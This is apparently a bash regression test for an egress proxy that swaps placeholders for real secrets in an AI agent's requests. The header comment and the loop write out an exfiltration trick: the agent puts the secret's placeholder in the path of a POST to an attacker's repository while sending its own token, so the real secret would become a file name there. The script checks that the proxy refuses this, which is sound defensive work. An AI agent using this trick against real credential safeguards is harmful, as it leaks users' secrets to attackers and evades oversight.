#!/usr/bin/env bash
# Attack: a bound secret sent as data on the agent's own account. The agent holds only
# tokfence-secret:gh, bound to a host that reads its credential from Authorization (as
# api.github.com does). It sends one placeholder, in the path, beside a token of its own:
#   POST /repos/attacker/loot/contents/tokfence-secret:gh      Authorization: token <its own>
# One placeholder in an allowed position: the host received the real secret as the name of a file
# created in the attacker's repository (review 12a E1). Expected: a placeholder beside a credential
# the agent sends of its own (a credential field or a key= parameter) is refused
# (403 placeholder-position) and nothing reaches the host; the placeholder as the credential
# itself still works.
source "$(dirname "$0")/egress_lib.bash"

egress_setup '{"allow":["allowed.example"],"secrets":["gh"]}' '[egress]' "extra_ca_file = \"$WORK/cert.pem\""
bind_secret gh allowed.example
P="tokfence-secret:gh"
HEADS="$WORK/TLS.requests.heads"
OWN="attacker-own-token-$(random_token 12)"

for own in "Authorization: token $OWN" "Cookie: user_session=$OWN" "X-Api-Key: $OWN"; do
  log "placeholder in the path beside '${own%%:*}' of the agent's own"
  as_agent allowed.example:443 "POST /repos/attacker/loot/contents/$P HTTP/1.1\r\nHost: allowed.example\r\n$own\r\nContent-Length: 2\r\n\r\n{}"
  expect_eq "$STATUS" "HTTP/1.1 403 Forbidden" "the agent's answer"
  expect_eq "$EGRESS" placeholder-position
done
as_agent allowed.example:443 "POST /repos/attacker/loot/contents/$P?access_token=$OWN HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 2\r\n\r\n{}"
expect_eq "$EGRESS" placeholder-position "beside an access_token parameter"
sleep 0.3
[[ ! -s $HEADS ]] || ! grep -q "$BOUND" "$HEADS" || die "the bound secret reached the host as data: $(grep -c "$BOUND" "$HEADS") time(s)"

log "the placeholder as the credential itself"
as_agent allowed.example:443 "GET /hello HTTP/1.1\r\nHost: allowed.example\r\nAuthorization: token $P\r\n\r\n"
expect_eq "$STATUS" "HTTP/1.1 200 OK" "the credential use"
wait_until "grep -q 'Authorization: token $BOUND' '$HEADS'" 10
scan_for_canary || die "canary found in an artifact"
log "ok: a bound secret is never data beside the agent's own credential"
